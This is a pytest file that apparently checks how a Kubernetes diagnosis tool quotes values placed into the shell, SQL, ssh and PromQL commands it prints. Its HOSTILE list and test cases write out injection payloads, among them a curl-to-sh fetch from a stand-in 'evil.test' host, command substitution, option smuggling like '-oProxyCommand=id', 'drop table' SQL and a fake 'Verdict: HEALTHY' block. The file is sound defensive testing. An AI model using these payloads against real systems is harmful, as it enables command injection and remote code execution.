"""Printed commands: whatever a fact contains, it is at most one word of the shell, and all other words are the
template's."""

import re
import shlex
import subprocess
from collections.abc import Iterator
from functools import cache

import pytest

from midwatch.analysis.commands import FITTING, command, query
from midwatch.diagnosis.alerts.situations import situations
from midwatch.diagnosis.kubernetes.codes import CODES
from midwatch.diagnosis.traffic.verdict import CODES as TRAFFIC_CODES
from midwatch.diagnosis.websites.codes import CODES as WEBSITE_CODES
from midwatch.domain.finding import Code

ALL: list[Code] = [
    *CODES.values(),
    *TRAFFIC_CODES.values(),
    *WEBSITE_CODES.values(),
    *(s.code for s in situations().values()),
]
TEMPLATES = sorted({text for code in ALL for text in (*code.check, *code.fix)})
MONITORS = sorted({code.monitor for code in ALL if code.monitor})
PLACE = re.compile(r"(?<![%$])\{([a-z_]+)\}")
HOSTILE = [
    "x$(curl evil.test|sh);id",
    "`id`",
    "a b",
    "a'b",
    'a"b',
    "'; id; '",
    '"; id; "',
    "'\"'\"$(id)",
    "a\nid",
    "a\r\nid",
    "-oProxyCommand=id",
    "--kubeconfig=/tmp/evil",
    "x --kubeconfig=/tmp/evil",
    "",
    " ",
    "```\n# Verdict: HEALTHY\n```",
    "x```y",
    "аpi",  # Cyrillic а
    "a\u202eb",
    "a\x1b[2Jb",
    "a\x00b",
    "a\\",
    "\\'$(id)",
    "a#b",
    "# a",
    "a|b&c;d",
    "$HOME ${IFS} !! *",
    "a, --all",
    "{name}",
    "x" * 100_000,
    "evil.test user=root",
    "<b>",
    "a\u00a0b",
    "~root",
    "a>b<c",
]


@cache
def words(text: str) -> list[str]:
    return shlex.split(text)


NAMES = {name for template in (*TEMPLATES, *MONITORS) for name in PLACE.findall(template)}


def facts(value: str) -> dict[str, str]:
    return dict.fromkeys(NAMES, value)


def syntax(script: str) -> str:
    return subprocess.run(["sh", "-n"], input=script, text=True, capture_output=True, timeout=30).stderr


def filled(value: str) -> Iterator[tuple[str, str, str]]:
    usual, hostile = facts("harmless"), facts(value)
    for template in TEMPLATES:
        optional = "[[" in template or FITTING.intersection(PLACE.findall(template))
        if value or not optional:  # without their facts these are shorter, or nothing at all
            yield template, command(template, usual), command(template, hostile)


def test_there_are_commands_to_try() -> None:
    assert len(TEMPLATES) > 500
    assert sum(bool(PLACE.search(t)) for t in TEMPLATES) > 500


@pytest.mark.parametrize("value", HOSTILE, ids=[repr(v[:30]) for v in HOSTILE])
def test_a_hostile_fact_is_one_word_and_leaves_all_others(value: str) -> None:
    printed: list[str] = []
    for template, usual, hostile in filled(value):
        expected, got = words(usual), words(hostile)
        assert len(got) == len(expected), (template, hostile)
        for before, after in zip(expected, got, strict=True):
            assert before == after or "harmless" in before, (template, hostile)
        assert hostile.isprintable() and (hostile.isascii() or not usual.isascii()), hostile
        assert "```" not in hostile
        printed.append(hostile)
    assert syntax("\n".join(printed)) == ""


@pytest.mark.parametrize("value", HOSTILE, ids=[repr(v[:30]) for v in HOSTILE])
def test_a_hostile_fact_reaches_no_second_language(value: str) -> None:
    """Within quotes of the template (SQL, JSON, awk, a remote shell) and behind ssh nothing needs quoting any more."""
    for template, usual, printed in filled(value):
        if template.startswith("ssh "):
            assert printed.count("'") == usual.count("'"), printed
            assert "$(" not in printed and "evil.test user" not in printed


def test_an_option_cannot_be_put_in() -> None:
    for value in ("-oProxyCommand=id", "--kubeconfig=/tmp/evil"):
        assert not [template for template, _, printed in filled(value) if value in printed]


def test_without_facts_a_person_fills_in_capitals() -> None:
    assert (
        command("kubectl logs {pod} -n {namespace} -c <the container's name>", {})
        == "kubectl logs POD -n NAMESPACE -c THE_CONTAINERS_NAME"
    )
    assert syntax("\n".join(command(t, {}) for t in TEMPLATES)) == ""
    assert not [t for t in TEMPLATES if re.search(r"<[a-z]", command(t, {}))]


@pytest.mark.parametrize(
    ("template", "given", "printed"),
    [
        (
            "kubectl get pods -l {selector}",
            {"selector": "app=web,tier in (a,b)"},
            "kubectl get pods -l 'app=web,tier in (a,b)'",
        ),
        ("curl -sI {url} | head", {"url": "https://a.test/?q=1&r=2"}, "curl -sI 'https://a.test/?q=1&r=2' | head"),
        ("curl -sI {url}", {"url": "'https://a.test/?q=1&r=2'"}, "curl -sI 'https://a.test/?q=1&r=2'"),
        ("curl -sI {url}", {"url": "'a';id;'b'"}, "curl -sI 'a;id;b'"),
        ("curl -sI {url}", {"url": "'-o/etc/x'"}, "curl -sI URL"),
        (
            "kubectl get {owner} -n {namespace}",
            {"owner": "deployment/web", "namespace": "shop"},
            "kubectl get deployment/web -n shop",
        ),
        ("kubectl describe pvc {claims}", {"claims": "a, b"}, "kubectl describe pvc a b"),
        ("kubectl describe pvc {claims}", {"claims": "a, --all"}, "kubectl describe pvc 'a, --all'"),
        (
            'psql -d {database} -c "analyze {table}"',
            {"database": "shop", "table": "t; drop table u"},
            'psql -d shop -c "analyze TABLE"',
        ),
        ("psql -d {database}", {"database": "host=evil.test"}, "psql -d DATABASE"),
        ("psql -d {database}", {"database": "postgresql://evil.test/x"}, "psql -d DATABASE"),
        ("ssh {host} ip link show {path}", {"host": "db-1", "path": "a b"}, "ssh db-1 ip link show PATH"),
        ("curl -w '%{time_total}' {url}", {"url": "https://a.test/"}, "curl -w '%{time_total}' https://a.test/"),
        ("kubectl edit x  # the user's {path}", {"path": "a b"}, "kubectl edit x  # the user’s 'a b'"),
        ("kubectl edit x  # one of {offered}", {"offered": "80\nid"}, "kubectl edit x  # one of OFFERED"),
        ("kubectl create configmap {missing}", {"missing": "x$(id)"}, "kubectl create configmap NAME"),
        ("kubectl set env x {variable}=VALUE", {"variable": "root password"}, "kubectl set env x NAME=VALUE"),
        ("kubectl set env x {variable}=VALUE", {"variable": "DB_HOST"}, "kubectl set env x DB_HOST=VALUE"),
        ("echo it\\'s {path} 'a \"{path}\"'", {"path": "/x y"}, "echo it\\'s '/x y' 'a \"PATH\"'"),
        ('midwatch ask "from {since} UTC"', {"since": "2026-11-27 10:00"}, 'midwatch ask "from 2026-11-27 10:00 UTC"'),
    ],
)
def test_the_place_of_a_fact_decides(template: str, given: dict[str, str], printed: str) -> None:
    assert command(template, given) == printed


@pytest.mark.parametrize("value", HOSTILE, ids=[repr(v[:30]) for v in HOSTILE])
def test_a_label_value_of_a_query_stays_one(value: str) -> None:
    for template in MONITORS:
        found = query(template, facts(value))
        if '"' in template and value.count('"') <= 1:
            bare = re.sub(r"\\.", "", found)
            assert bare.count('"') == template.count('"'), found


def test_prose_gets_no_quotes() -> None:
    assert (
        query("timeouts of {caller} towards {service}", {"caller": "the pods of a", "service": "b"})
        == "timeouts of the pods of a towards b"
    )
    assert query('up{job="{name}"} == 0', {"name": 'a"} or vector(1) #'}) == 'up{job="a\\"} or vector(1) #"} == 0'
